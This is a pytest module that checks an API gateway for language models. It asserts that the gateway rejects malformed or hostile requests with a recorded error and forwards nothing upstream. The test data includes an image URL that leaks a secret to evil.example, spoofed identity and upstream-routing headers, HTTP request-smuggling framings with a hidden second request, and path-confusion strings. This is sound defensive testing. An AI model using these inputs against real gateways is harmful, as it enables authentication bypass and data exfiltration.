"""What bad input gets: a clear error with the request id, and a record; nothing leaves."""
import json
import time

import pytest

import house
import support
from support import Wire, head_of, raw, refused

BODY = json.dumps(support.ask("hi", "rec")).encode()


@pytest.fixture
def nothing_leaves(recorder):
    before = len(recorder.requests())
    yield
    time.sleep(0.05)
    assert len(recorder.requests()) == before, recorder.requests()[-1].body


pytestmark = pytest.mark.usefixtures("nothing_leaves")


def chat(gw, body, **more):
    return gw.chat(body, **more)


@pytest.mark.parametrize("body,code", [
    ('{"model":"rec","model":"demo","messages":[{"role":"user","content":"hi"}]}', "json_duplicate"),
    ('{"model":"demo","messages":[],"messages":[{"role":"user","content":"hi"}]}', "json_duplicate"),
    ('{"model":"rec","messages":[{"role":"user","content":"a","content":"b"}]}', "json_duplicate"),
    ('{"model":"rec","mod\\u0065l":"demo","messages":[{"role":"user","content":"b"}]}', "json_duplicate"),
    ('{"model":"rec","Model":"demo","messages":[{"role":"user","content":"hi"}]}', "json_case_variant"),
    ('{"model":"rec","MESSAGES":[],"messages":[{"role":"user","content":"hi"}]}', "json_case_variant"),
    ('{"model":"rec","messages":[{"role":"user","Content":"x","content":"hi"}]}', "json_case_variant"),
    ('{"model":"rec","messages":[{"role":"user","content":"hi"}],"Tools":[]}', "json_case_variant"),
    ('{"model":"rec","messages":[{"role":"user","content":"hi"}]', "json_syntax"),
    ('{"model":"rec","messages":[{"role":"user","content":"hi"}]} x', "json_syntax"),
    ('{"model":"rec","messages":[{"role":"user","content":"hi"}],}', "json_syntax"),
    ("{'model':'rec'}", "json_syntax"),
    ('\ufeff{"model":"rec","messages":[{"role":"user","content":"hi"}]}', "json_syntax"),
    ("", "json_syntax"),
    ('{"model":"rec","messages":[{"role":"user","content":"\\ud800"}]}', "json_utf8"),
    (b'{"model":"rec","messages":[{"role":"user","content":"\xff"}]}', "json_utf8"),
    (b'{"model":"rec","messages":[{"role":"user","content":"\xc0\xaf"}]}', "json_utf8"),
    ('{"model":"rec","messages":[{"role":"user","content":"hi"}],"x":' + "[" * 100 + "]" * 100 + "}",
     "json_depth"),
    ('{"model":7,"messages":[{"role":"user","content":"hi"}]}', "dialect_member"),
    ('{"messages":[{"role":"user","content":"hi"}]}', "dialect_required"),
    ('{"model":"rec"}', "dialect_required"),
    ('[]', "dialect_member"),
    ('{"model":"rec","messages":[{"role":"root","content":"hi"}]}', "dialect_unknown"),
    ('{"model":"rec","messages":[{"role":"user","content":[{"type":"hologram","hologram":{}}]}]}',
     "dialect_unknown"),
    ('{"model":"rec","messages":[{"role":"user","content":"hi"}],"tools":[{"type":"shell"}]}',
     "dialect_unknown"),
    ('{"model":"rec","messages":[{"role":"user","content":"hi"}],"stream":"yes"}', "dialect_member"),
    ('{"model":"rec","messages":[{"role":"user","content":"hi"}],"max_tokens":-1}', "dialect_member"),
    ('{"model":"rec","messages":[{"role":"user","content":"hi"}],"max_tokens":1e99}', "dialect_member"),
])
def test_bodies(gw, body, code):
    refused(gw, chat(gw, body), 400, code)


def test_a_remote_picture_is_a_way_out(gw):
    answer = chat(gw, {"model": "rec", "messages": [{"role": "user", "content": [
        {"type": "image_url", "image_url": {"url": "https://evil.example/?q=secret"}}]}]})
    record = refused(gw, answer, 403, "policy_forbidden")
    assert "no-remote-urls" in record["policies"]


def test_model_in_the_query_against_the_body(gw):
    answer = gw.request("POST", "/v1/chat/completions?model=demo", support.ask("hi", "rec"))
    refused(gw, answer, 400, "query_not_allowed")


@pytest.mark.parametrize("method,path,status,code", [
    ("GET", "/", 404, "route_unknown"),
    ("GET", "/healthz", 404, "route_unknown"),
    ("GET", "/metrics", 404, "route_unknown"),
    ("GET", "/admin/v1/keys", 404, "route_unknown"),
    ("POST", "/v1/embeddings", 404, "route_unknown"),
    ("POST", "/V1/chat/completions", 404, "route_unknown"),
    ("POST", "/v1/chat/completions/", 404, "route_unknown"),
    ("GET", "/v1/models/a/b", 404, "route_unknown"),
    ("DELETE", "/v1/models/demo", 405, "http_method"),
    ("GET", "/v1/chat/completions", 405, "http_method"),
    ("PUT", "/v1/chat/completions", 405, "http_method"),
])
def test_routes(gw, method, path, status, code):
    body = "{}" if method in ("POST", "PUT") else None
    refused(gw, gw.request(method, path, body), status, code)


@pytest.mark.parametrize("path", [
    "/v1//chat/completions", "/v1/./chat/completions", "/v1/x/../chat/completions",
    "/v1/chat%2fcompletions", "/v1/chat/completions%00", "/v1/%63hat/completions",
    "http://evil.example/v1/chat/completions", "//evil.example/v1/chat/completions",
])
def test_paths_with_two_meanings(gw, path):
    reply = raw(gw, head_of(gw, BODY, path=path), BODY)
    assert reply.status in (400, 404), reply.raw
    refused(gw, reply, reply.status, reply.code)


IDENTITY = ["X-User: root", "X-Forwarded-User: root", "Remote-User: root", "X-Postern-Principal: a",
            "Postern-Request: 1", "X-Remote-Groups: admins", "X-SSL-Client-CN: root",
            "X-Auth-Request-Email: a@b", "Impersonate-User: root", "X-Goog-IAP-JWT-Assertion: x",
            "X-Upstream: http://evil.example", "X-Upstream-Host: evil", "X-Base-Url: http://evil",
            "X-Provider: other", "X-Litellm-Key: k", "Helicone-Target-Url: http://evil",
            "X-Original-Url: /admin", "X-HTTP-Method-Override: DELETE", "x-USER: root"]


@pytest.mark.parametrize("row", IDENTITY)
def test_identity_and_routing_headers(gw, row):
    refused(gw, raw(gw, head_of(gw, BODY, extra=[row]), BODY), 400, "identity_header")


@pytest.mark.parametrize("row", ["X_User: root", "Content_Length: 5", "Postern_End_User: x",
                                 "Remote_User: root", "Authorization_: x", "X-User_Name: x"])
def test_underscore_headers(gw, row):
    refused(gw, raw(gw, head_of(gw, BODY, extra=[row]), BODY), 400, "http_header")


FRAMING = {
    "content-length and transfer-encoding": (["Transfer-Encoding: chunked"], True, "http_framing"),
    "two lengths": ([f"Content-Length: {len(BODY) + 1}"], True, "http_framing"),
    "the same length twice": ([f"content-length: {len(BODY)}"], True, "http_framing"),
    "a list of lengths": (["Content-Length: 5, 5"], False, "http_framing"),
    "a signed length": (["Content-Length: +5"], False, "http_framing"),
    "a hexadecimal length": (["Content-Length: 0x5"], False, "http_framing"),
    "an endless length": (["Content-Length: 99999999999999999999999"], False, "http_framing"),
    "two codings": (["Transfer-Encoding: gzip, chunked"], False, "http_framing"),
    "an obscured coding": (["Transfer-Encoding: xchunked"], False, "http_framing"),
    "chunked twice": (["Transfer-Encoding: chunked", "Transfer-Encoding: chunked"], False, "http_framing"),
}


@pytest.mark.parametrize("name", FRAMING)
def test_ambiguous_framing(gw, name):
    extra, length, code = FRAMING[name]
    with Wire(gw) as wire:
        # what follows must never be taken for a second request
        wire.send(head_of(gw, BODY, extra=extra, length=length), BODY,
                  b"GET /v1/models HTTP/1.1\r\nHost: x\r\n\r\n")
        reply = wire.reply()
        assert reply.status in (400, 501)
        refused(gw, reply, reply.status, code)
        assert wire.closed()


SYNTAX = {
    "bare LF": lambda h: h.replace(b"\r\n", b"\n"),
    "one bare LF": lambda h: h.replace(b"application/json\r\n", b"application/json\n"),
    "bare CR": lambda h: h.replace(b"Host:", b"X-A: b\rX-User: root\r\nHost:"),
    "space before the colon": lambda h: h.replace(b"Content-Length:", b"Content-Length :"),
    "a folded header": lambda h: h.replace(b"Host:", b"X-A: b\r\n c\r\nHost:"),
    "a NUL": lambda h: h.replace(b"Host:", b"X-A: b\0c\r\nHost:"),
    "no host": lambda h: b"\r\n".join(r for r in h.split(b"\r\n") if not r.startswith(b"Host")),
    "two hosts": lambda h: h.replace(b"Host:", b"Host: evil\r\nHost:"),
    "two spaces": lambda h: h.replace(b"POST /", b"POST  /"),
    "a tab": lambda h: h.replace(b"POST /", b"POST\t/"),
    "a lower version": lambda h: h.replace(b"HTTP/1.1", b"http/1.1"),
    "a header without a name": lambda h: h.replace(b"Host:", b": x\r\nHost:"),
    "a header without a colon": lambda h: h.replace(b"Host:", b"nonsense\r\nHost:"),
    "two credentials": lambda h: h.replace(b"Host:", b"Authorization: Bearer x\r\nHost:"),
    "two content types": lambda h: h.replace(b"Host:", b"Content-Type: text/plain\r\nHost:"),
}


@pytest.mark.parametrize("name", SYNTAX)
def test_broken_heads(gw, name):
    reply = raw(gw, SYNTAX[name](head_of(gw, BODY)), BODY)
    assert 400 <= reply.status < 500, reply.raw
    refused(gw, reply, reply.status, reply.code)


def test_http_versions(gw):
    for version in ("HTTP/2.0", "HTTP/0.9", "HTTP/1.7"):
        reply = raw(gw, head_of(gw, BODY, version=version), BODY)
        assert reply.status in (400, 505), (version, reply.raw)
    with Wire(gw) as wire:  # almost HTTP/2
        wire.send(b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n")
        assert b"HTTP/1" not in wire.until_close()


def test_a_connect_request(gw):
    reply = raw(gw, b"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n")
    assert reply.status in (400, 404, 405)
    refused(gw, reply, reply.status, reply.code)


def test_tls_to_a_plain_port(gw):
    with Wire(gw) as wire:
        wire.send(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 40)
        data = wire.until_close()
    assert data == b"" or data.startswith(b"HTTP/1.1 4")


def test_media_types(gw):
    for value, status, code in [("text/plain", 415, "http_media_type"),
                                ("application/x-www-form-urlencoded", 415, "http_media_type"),
                                ("multipart/form-data; boundary=x", 415, "http_media_type"),
                                ("application/json; charset=utf-16", 415, "http_media_type")]:
        refused(gw, chat(gw, BODY, headers={"Content-Type": value}), status, code)
    refused(gw, chat(gw, BODY, headers={"Content-Encoding": "gzip"}), 415, "http_encoding")


def test_headers_without_end(gw):
    reply = raw(gw, head_of(gw, BODY, extra=[f"X-{i}: a" for i in range(150)]), BODY)
    refused(gw, reply, 431, "http_header_limit")
    reply = raw(gw, head_of(gw, BODY, extra=["X-A: " + "a" * 40000]), BODY)
    refused(gw, reply, 431, "http_header_limit")
    reply = raw(gw, head_of(gw, BODY, path="/v1/models/" + "a" * 8000))
    refused(gw, reply, 414, "http_uri_limit")


def test_expect_of_something_else(gw):
    refused(gw, raw(gw, head_of(gw, BODY, extra=["Expect: 200-ok"]), BODY), 417, "http_expect")


CHUNKS = [b"5;x=\"y\nz\r\nhello\r\n0\r\n\r\n", b"5\nhello\n0\n\n", b"-5\r\nhello\r\n0\r\n\r\n",
          b"0x5\r\nhello\r\n0\r\n\r\n", b"ffffffffffffffff5\r\nhello", b"5\r\nhelloX\r\n0\r\n\r\n",
          b"5 \r\nhello\r\n0\r\n\r\n"]


@pytest.mark.parametrize("chunks", CHUNKS)
def test_broken_chunks(gw, chunks):
    head = head_of(gw, length=False, extra=["Transfer-Encoding: chunked"])
    reply = raw(gw, head, chunks)
    assert reply.status in (400, 413), reply.raw
    refused(gw, reply, reply.status, reply.code)


def test_nobody(gw):
    answer = chat(gw, BODY, key=None)
    record = refused(gw, answer, 401, "identity_missing")
    assert answer.headers["www-authenticate"] == "Bearer"
    assert "principal_id" not in record
    for value in ("Basic YTpi", "Bearer", "Bearer ", f"Token {gw.key}", gw.key, f"Bearer {gw.key} x",
                  f"Bearer {gw.key}x", f"Bearer {gw.key[:-1]}", "Bearer " + "a" * 600):
        refused(gw, chat(gw, BODY, key=None, headers={"Authorization": value}), 401,
                "identity_invalid")
    for name in ("X-Api-Key", "Api-Key", "Cookie"):
        refused(gw, chat(gw, BODY, key=None, headers={name: gw.key}), 401, "identity_missing")


def test_tool_names(gw):
    for name in ("get_weather\u202e", "GET_WEATHER", "get_weather ", "", "a" * 300):
        answer = chat(gw, support.ask("hi", "rec", tools=[support.tool(name)]))
        assert answer.status in (400, 403), (name, answer)
        refused(gw, answer, answer.status, answer.code)


def test_many_long_tool_names(gw):
    """More names than one proposal can hold: refused and recorded like everything else."""
    tools = [support.tool(f"{i:03}" + "n" * 123) for i in range(128)]
    assert len(json.dumps(tools)) < 65536
    answer = chat(gw, support.ask("hi", "rec", tools=tools))
    refused(gw, answer, 403, "tool_denied")


def test_headers_of_a_client_are_never_forwarded(gw, recorder):
    """Checked on a request that does go out, so the count of this module's fixture is adjusted."""
    seen = len(recorder.requests())
    answer = chat(gw, BODY, headers={"X-Anything": support.CANARY, "Cookie": support.CANARY,
                                     "User-Agent": support.CANARY, "OpenAI-Organization": "org-x",
                                     "Accept-Encoding": "gzip", "Referer": support.CANARY,
                                     "Forwarded": f"for={support.CANARY}"})
    assert answer.status == 200
    request = recorder.requests()[seen]
    with recorder.lock:
        del recorder.seen[seen:]
    assert support.CANARY.encode() not in request.head and gw.key.encode() not in request.head
    assert "accept-encoding" not in request.headers or "gzip" not in request.headers["accept-encoding"]
    assert set(request.headers) <= {"host", "content-type", "content-length", "accept",
                                    "accept-encoding", "user-agent", "authorization"}
    assert "authorization" not in request.headers, "this upstream has no credential"
